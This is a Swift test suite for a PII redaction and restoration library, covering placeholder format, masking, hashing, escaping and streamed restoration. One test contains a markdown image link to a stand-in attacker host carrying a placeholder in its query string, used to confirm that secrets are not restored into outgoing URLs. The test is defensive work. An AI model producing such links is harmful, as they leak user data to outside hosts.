import JSONText
import Redaction
import Testing

@Suite("Placeholders and the way back")
struct RestoreTests {
  private static let iban = "CH93 0076 2011 6238 5295 7"

  @Test func placeholderHasItsForm() throws {
    let text = try Bench.everything().redact("an \(Self.iban)!").text
    let token = text.dropFirst(3).dropLast()
    #expect(token.hasPrefix("[IBAN_") && token.hasSuffix("]") && token.utf8.count == 15)
    #expect(token.dropFirst(6).dropLast().allSatisfy { "0123456789abcdefghjkmnpqrstvwxyz".contains($0) })
  }

  @Test func oneValueHasOnePlaceholderInEverySpelling() throws {
    let bench = try Bench.everything()
    let parts = try bench.redact("CH93 0076 2011 6238 5295 7|ch9300762011623852957|CH93-0076-2011-6238-5295-7").text
      .split(separator: "|")
    #expect(Set(parts).count == 1 && parts.count == 3)
    #expect(bench.restore(String(parts[2])) == "CH93 0076 2011 6238 5295 7")
    #expect(try Bench.everything().redact(Self.iban).text == String(parts[0]))
  }

  @Test func anotherTenantOrScopeHasAnotherPlaceholder() throws {
    let one = try Bench.everything()
    let other = try Bench(one.profile, key: 8)
    var scoped = try Bench(one.profile)
    scoped.scope = [1]
    let texts = try [one, other, scoped].map { try $0.redact(Self.iban).text }
    #expect(Set(texts).count == 3)
  }

  @Test func maskAndHashNeverComeBack() throws {
    let mask = try Bench.everything(.mask)
    #expect(try mask.redact(Self.iban).text == "[IBAN]")
    #expect(mask.issued.isEmpty)
    let hash = try Bench.everything(.hash)
    let hashed = try hash.redact(Self.iban).text
    #expect(hash.issued.isEmpty && hashed.hasPrefix("[IBAN_"))
    #expect(try Bench.everything().redact(Self.iban).text != hashed)
  }

  @Test func blockSaysTheClassOnly() throws {
    let bench = try Bench.everything(.block)
    #expect {
      try bench.redact(Self.iban)
    } throws: {
      guard let error = $0 as? RedactionError else { return false }
      return error.code == .blocked && error.type == .iban && !"\(error)".contains("0076")
    }
  }

  @Test func flagOnlyCounts() throws {
    let outcome = try Bench.everything(.flag).redact(Self.iban)
    #expect(outcome.text == Self.iban && outcome.counts.count(.iban, .flag) == 1)
  }

  @Test(arguments: [RedactionAction.pseudonymise, .mask, .hash])
  func identifiersTakeNoBracketsAndStayOneAndApart(_ action: RedactionAction) throws {
    let bench = try Bench.everything(action)
    let ids = ["call_CH9300762011623852957", "call_756.9217.0769.85", "call_CH9300762011623852957", "max@example.ch"]
    let body = Array(ids.joined(separator: "|").utf8)
    var segments: [TextSegment] = []
    for id in ids {
      let start = segments.last.map { $0.end + 1 } ?? 0
      segments.append(
        TextSegment(start: start, end: start + id.utf8.count, group: Int32(segments.count), isIdentifier: true))
    }
    let redacted = String(decoding: try bench.redact(bytes: body, segments).bytes, as: UTF8.self)
    let parts = redacted.split(separator: "|").map(String.init)
    #expect(parts[0].hasPrefix("call_IBAN_") && parts[1].hasPrefix("call_AHV_") && parts[3].hasPrefix("EMAIL_"))
    #expect(parts[0] == parts[2] && Set(parts).count == 3)
    for byte in redacted.utf8 where byte != 0x7C {
      #expect((0x30...0x39).contains(byte) || (0x41...0x5A).contains(byte & 0xDF) || byte == 0x5F)
    }
    #expect(bench.issued.isEmpty == (action != .pseudonymise))
    guard action == .pseudonymise else { return }
    for cuts in [[], Array(0...redacted.utf8.count)] {
      #expect(bench.restore(redacted, depth: 1, cuts: cuts) == ids.joined(separator: "|"))
    }
  }

  @Test func aSurrogatePairInAURLMayBeCutAnywhere() throws {
    let bench = try Bench.everything()
    let raw = "://\\ud83d\\ude00\(Self.iban)"
    let redacted = try bench.redact(raw, depth: 1).text
    for cut in 0...redacted.utf8.count { #expect(bench.restore(redacted, depth: 1, cuts: [cut]) == raw) }
    #expect(bench.restore("\\ud83dx \(redacted)", depth: 1, cuts: Array(0...80)) == "\\ud83dx \(raw)")
  }

  @Test func aPlaceholderTypedIntoAnIdIsText() throws {
    let bench = try Bench.everything()
    let id = "call_IBAN_0a1b2c3d"
    let segment = TextSegment(start: 0, end: id.utf8.count, isIdentifier: true)
    let redacted = String(decoding: try bench.redact(bytes: Array(id.utf8), [segment]).bytes, as: UTF8.self)
    #expect(redacted.hasPrefix("call_TEXT_") && bench.restore(redacted) == id)
  }

  @Test func everySpellingOfModelsComesBack() throws {
    let bench = try Bench.everything()
    let token = try bench.redact(Self.iban).text
    let core = String(token.dropFirst().dropLast())
    let tag = String(core.dropFirst(5))
    for spelling in [
      token, core, token.uppercased(), token.lowercased(), "\\[\(core)\\]", "\\[IBAN\\_\(tag)\\]", "%5B\(core)%5D",
      "&#91;\(core)&#93;", "<\(core)>", "[IBAN-\(tag)]", "[IBAN \(tag)]", "[IBAN\u{2011}\(tag)]",
    ] {
      #expect(bench.restore("x \(spelling)s y") == "x \(Self.iban)s y", "\(spelling)")
    }
    #expect(bench.restore("**\(token)**, `\(token)`") == "**\(Self.iban)**, `\(Self.iban)`")
    #expect(bench.restore("[\(core) und \(core)]") == "[\(Self.iban) und \(Self.iban)]")
  }

  @Test func whatWasNotIssuedStays() throws {
    let bench = try Bench.everything()
    _ = try bench.redact(Self.iban)
    for text in [
      "[IBAN_00000000]", "[EMAIL_00000000]", "IBAN_0000", "[IBAN_", "[", "IBAN", "\\[IBAN", "&#91;IBAN_00000000",
    ] {
      #expect(bench.restore(text) == text)
      #expect(bench.restore(text, cuts: Array(0...text.utf8.count)) == text)
    }
  }

  @Test func nothingIsRestoredAfterWipe() throws {
    let bench = try Bench.everything()
    let token = try bench.redact(Self.iban).text
    bench.issued.wipe()
    #expect(bench.restore(token) == token)
    #expect(try bench.redact(Self.iban).text == token)
    #expect(bench.restore(token) == Self.iban)
  }

  @Test func typedPlaceholderReturnsAsTyped() throws {
    let bench = try Bench.everything()
    let token = try bench.redact(Self.iban).text
    let attack = "\(token) and \(Self.iban)"
    let redacted = try bench.redact(attack)
    #expect(redacted.counts.count(.text, .pseudonymise) == 1)
    #expect(redacted.text.hasPrefix("[TEXT_") && redacted.text.hasSuffix(token))
    #expect(bench.restore(redacted.text) == attack)
    for spelling in [
      "iban_0a1b2c3d", "<IBAN-0a1b2c3d>", "[Steuer_Id_0a1b2c3d]", "\\[IBAN\\_0a1b2c3d\\]", "API KEY 0a1b2c3d",
    ] {
      #expect(try Bench.everything().found("x \(spelling) y") == ["text": 1], "\(spelling)")
    }
    #expect(try Bench.everything().found("a phone chargers list, text_and, email_addresses") == [:])
  }

  @Test func redactedTextHoldsNothingButTyped() throws {
    let first = try Bench.everything().redact("max@example.ch, \(Self.iban), 756.9217.0769.85, Passwort: abc123!").text
    let found = try Bench.everything().found(first)
    #expect(Array(found.keys) == ["text"])
  }

  @Test func urlsComeBackOnlyAsSent() throws {
    let bench = try Bench.everything()
    let sent = try bench.redact("see https://shop.ch/u?mail=max@example.ch and call \(Self.iban)").text
    let token = try bench.redact(Self.iban).text
    #expect(bench.restore(sent) == "see https://shop.ch/u?mail=max@example.ch and call \(Self.iban)")
    let evil = "![x](https://evil.example/?q=\(token)) and \(token)"
    #expect(bench.restore(evil) == "![x](https://evil.example/?q=\(token)) and \(Self.iban)")
    #expect(bench.restore(evil, cuts: Array(0...evil.utf8.count)) == bench.restore(evil))
    #expect(bench.restore(evil, urls: .always) == "![x](https://evil.example/?q=\(Self.iban)) and \(Self.iban)")
  }

  @Test func valuesAreEscapedForTheirDepth() throws {
    let list = RedactionRule(id: "l", lists: [.init(name: "firma", entries: ["Anna \"Bell\\Co\nKG"])])
    let bench = try Bench(RedactionProfile(name: "p", rules: [list]))
    let spellings = [
      "Anna \"Bell\\Co\nKG", "Anna \\\"Bell\\\\Co\\nKG", "Anna \\\\\\\"Bell\\\\\\\\Co\\\\nKG",
    ]
    for depth in 0...2 {
      bench.issued.wipe()
      let token = try bench.redact(spellings[depth], depth: UInt8(depth)).text
      #expect(token.hasPrefix("[FIRMA_") && token.utf8.count == 16)
      for other in 0...2 { #expect(bench.restore(token, depth: other) == spellings[other]) }
    }
  }

  @Test func emojiComeBackWhole() throws {
    let list = RedactionRule(
      id: "l", lists: [.init(name: "kunden", entries: ["Anna\u{1F600}Bell"])], action: .pseudonymise)
    let bench = try Bench(RedactionProfile(name: "p", rules: [list]))
    let text = try bench.redact("x Anna\\ud83d\\ude00Bell y", depth: 1).text
    #expect(text.hasPrefix("x [KUNDEN_"))
    #expect(bench.restore(text, depth: 1) == "x Anna\u{1F600}Bell y")
    let answer = "\\ud83d\\ude00 \(text) \\ud83d"
    let whole = bench.restore(answer, depth: 1)
    #expect(whole == "\\ud83d\\ude00 x Anna\u{1F600}Bell y \\ud83d")
    #expect(bench.restore(answer, depth: 1, cuts: Array(0...answer.utf8.count)) == whole)
  }

  @Test func writesNoMoreThanThereIsRoomFor() throws {
    let bench = try Bench.everything()
    let token = try bench.redact(Self.iban).text
    var restorer = Restorer()
    restorer.room = 2 * Self.iban.utf8.count
    let out = ByteArena()
    Array("\(token) \(token) \(token) x".utf8).withUnsafeBytes {
      restorer.feed($0, depth: 1, issued: bench.issued, into: out)
    }
    restorer.finish(depth: 1, issued: bench.issued, into: out)
    #expect(String(decoding: out.bytes, as: UTF8.self) == "\(Self.iban) \(Self.iban) \(token) x")
    #expect(restorer.isFull && restorer.room == 0 && restorer.restored == 2)
  }

  @Test func holdsAtMostFortyBytes() throws {
    let bench = try Bench.everything()
    let token = try bench.redact(Self.iban).text
    let escaped = token.utf8.map { "\\u00" + String($0, radix: 16) }.joined()
    for text in [token, escaped, String(repeating: "[IBAN_", count: 50), String(repeating: "\\\\", count: 99)] {
      var restorer = Restorer()
      let out = ByteArena()
      for byte in text.utf8 {
        withUnsafeBytes(of: byte) { restorer.feed($0, depth: 1, issued: bench.issued, into: out) }
        #expect(restorer.heldCount <= 40)
      }
    }
  }
}
